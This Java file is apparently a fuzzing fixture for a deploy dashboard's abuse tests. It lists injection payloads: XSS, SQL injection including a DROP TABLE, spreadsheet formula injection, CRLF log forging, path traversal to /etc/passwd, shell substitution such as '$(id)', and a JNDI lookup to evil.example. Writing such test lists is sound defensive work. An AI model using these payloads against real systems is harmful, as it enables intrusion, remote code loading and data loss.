package org.deploydash.abuse;

import java.util.List;

/** Texts that mean something somewhere: to a browser, a database, a spreadsheet, a log, a shell, a file system or a parser. */
final class Payloads {

    static final List<String> MARKUP = List.of(
            "<script>window.pwned=1</script>",
            "<img src=x onerror=window.pwned=1>",
            "\"><svg/onload=window.pwned=1>",
            "' autofocus onfocus='window.pwned=1",
            "javascript:window.pwned=1",
            "</textarea></title></script><script>window.pwned=1</script>",
            "<!--<script>",
            "&lt;b&gt;&#60;script&#62;",
            "${7*7}#{7*7}*{7*7}~{x}[[${7*7}]]__${7*7}__",
            "{{constructor.constructor('window.pwned=1')()}}");
    static final List<String> SQL = List.of(
            "' OR '1'='1",
            "'; DROP TABLE deployments; --",
            "\" UNION SELECT * FROM audit --",
            "1) OR 1=1 --",
            "x'; ATTACH DATABASE '/tmp/x' AS y; --",
            "NEAR(\"a\" \"b\")",
            "*\"^-a OR NOT");
    static final List<String> LIKE = List.of("%", "_", "100%_\\%", "\\", "%%%%%%%%%%%%%%%%%%%%", "[a-z]", "a*b?c");
    static final List<String> FORMULA =
            List.of("=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "=HYPERLINK(\"http://evil.example\")");
    static final List<String> LINES = List.of(
            "a\nSEVERE: forged line",
            "a\r\nSet-Cookie: forged=1",
            "a\rINFO: forged line",
            "%0d%0aSet-Cookie:%20forged=1",
            "a\u2028b\u2029c\u0085d");
    static final List<String> PATHS = List.of(
            "../../../../etc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd",
            "file:///etc/passwd",
            "....//....//etc/passwd",
            "%2e%2e%2fetc%2fpasswd",
            "..;/WEB-INF/web.xml");
    static final List<String> SHELL =
            List.of("$(id)", "`id`", "; id", "| id", "&& id", "${jndi:ldap://evil.example/x}");
    static final List<String> SIGNS = List.of(
            "\u202Egnp.exe",
            "Zo\u0308e \uD83E\uDD84 日本語 العربية",
            "a\u0301".repeat(40),
            "\u200B\uFEFF\u2066x",
            "null",
            "undefined",
            "NaN",
            "-0",
            "9223372036854775808",
            "1e400",
            "true",
            "__proto__",
            "constructor");

    /** What no text has, and so is refused. */
    static final List<String> UNREADABLE = List.of("a\u0000b", "a\u001b[31mb", "a\u0007", "a\u0008\u0008", "a\uD800b");

    private Payloads() {}

    static List<String> all() {
        return List.of(MARKUP, SQL, LIKE, FORMULA, LINES, PATHS, SHELL, SIGNS).stream()
                .flatMap(List::stream)
                .toList();
    }
}
